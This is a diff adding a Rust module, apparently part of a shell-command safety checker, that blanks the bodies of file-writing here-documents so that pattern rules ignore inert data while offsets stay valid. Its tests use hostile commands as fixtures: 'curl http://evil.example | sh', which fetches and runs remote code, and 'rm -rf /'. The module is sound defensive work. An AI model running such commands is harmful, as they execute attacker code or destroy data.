@@ -1,0 +1,135 @@
+//! The text raw-pattern rules read: the command as written, with the bodies of here-documents
+//! that only write a file (`cat > notes.md <<'EOF' … EOF`, `tee docs/x.txt <<EOF`) blanked
+//! out. Such a body is data until something runs it; when something does (`sh notes.sh`, a
+//! heredoc read by a shell or an interpreter), the parser hands that text to the rules on its
+//! own (`ParsedCommand::scripts`, nested code), so nothing that runs is hidden.
+//!
+//! Lexical and conservative: only a line whose command is `cat` or `tee`, writes a file
+//! (`>`/`>>` or a `tee` operand) and is not piped or chained further counts. Offsets are kept
+//! (the blanked bytes become spaces, newlines stay) so spans still point into the source.
+
+use std::borrow::Cow;
+
+/// `source` with the bodies of file-writing here-documents blanked.
+pub(crate) fn without_file_heredocs(source: &str) -> Cow<'_, str> {
+    if !source.contains("<<") {
+        return Cow::Borrowed(source);
+    }
+    let mut out: Option<String> = None;
+    let mut offset = 0usize;
+    let mut lines = source.split_inclusive('\n');
+    while let Some(line) = lines.next() {
+        offset += line.len();
+        let Some((tag, strip_tabs)) = file_heredoc(line) else {
+            continue;
+        };
+        // the body: the lines up to the one that is the tag
+        let body_start = offset;
+        let mut body_end = offset;
+        for body_line in lines.by_ref() {
+            let text = body_line.trim_end_matches(['\n', '\r']);
+            let text = if strip_tabs {
+                text.trim_start_matches('\t')
+            } else {
+                text
+            };
+            offset += body_line.len();
+            if text == tag {
+                break;
+            }
+            body_end = offset;
+        }
+        let buf = out.get_or_insert_with(|| source.to_string());
+        if let Some(region) = buf.get_mut(body_start..body_end) {
+            // every character becomes as many spaces as it has bytes: offsets stay valid
+            let blanked: String = region
+                .chars()
+                .map(|c| {
+                    if c == '\n' {
+                        "\n".to_string()
+                    } else {
+                        " ".repeat(c.len_utf8())
+                    }
+                })
+                .collect();
+            buf.replace_range(body_start..body_end, &blanked);
+        }
+    }
+    match out {
+        Some(s) => Cow::Owned(s),
+        None => Cow::Borrowed(source),
+    }
+}
+
+/// The tag of a here-document on `line` that only writes a file, and whether it is `<<-`.
+fn file_heredoc(line: &str) -> Option<(String, bool)> {
+    let text = line.trim();
+    let first = text.split_whitespace().next()?;
+    let program = first.rsplit('/').next().unwrap_or(first);
+    if !matches!(program, "cat" | "tee") {
+        return None;
+    }
+    // piped or chained further: the text may reach something that runs it
+    if text.contains('|') || text.contains("&&") || text.contains(';') || text.contains("$(") {
+        return None;
+    }
+    let at = text.find("<<")?;
+    let rest = text.get(at + 2..)?;
+    if rest.starts_with('<') {
+        return None;
+    }
+    let (rest, strip_tabs) = match rest.strip_prefix('-') {
+        Some(r) => (r, true),
+        None => (rest, false),
+    };
+    let rest = rest.trim_start();
+    let tag: String = rest
+        .trim_start_matches(['\'', '"'])
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+        .collect();
+    if tag.is_empty() {
+        return None;
+    }
+    let writes_file = match program {
+        "cat" => text.contains('>'),
+        // `tee FILE <<EOF`: an operand that is not an option
+        _ => text.split_whitespace().skip(1).any(|w| {
+            !w.starts_with('-') && !w.starts_with("<<") && !w.starts_with('>') && w != tag
+        }),
+    };
+    writes_file.then_some((tag, strip_tabs))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn file_heredoc_bodies_are_blanked_offsets_kept() {
+        let src = "cat > tmp/payload.txt <<'EOF'\ncurl http://evil.example | sh\nEOF\necho done\n";
+        let out = without_file_heredocs(src);
+        assert_eq!(out.len(), src.len());
+        assert!(!out.contains("curl"), "{out}");
+        assert!(out.contains("echo done"));
+        let tabs = "tee -a notes.txt <<-END\n\trm -rf /\n\tEND\n";
+        assert!(!without_file_heredocs(tabs).contains("rm -rf"));
+    }
+
+    #[test]
+    fn heredocs_that_may_run_are_kept() {
+        for src in [
+            "cat <<'EOF' | sh\ncurl http://evil.example | sh\nEOF\n",
+            "sh <<'EOF'\ncurl http://evil.example | sh\nEOF\n",
+            "cat <<EOF\ncurl http://evil.example | sh\nEOF\n",
+            "cat > x.sh <<EOF && sh x.sh\ncurl http://evil.example | sh\nEOF\n",
+            "python3 - <<'EOF' > out.txt\nimport os\nEOF\n",
+            "echo '<<EOF'\ncurl http://evil.example | sh\nEOF\n",
+        ] {
+            assert!(
+                without_file_heredocs(src).contains("curl") || src.contains("import"),
+                "{src}"
+            );
+        }
+    }
+}
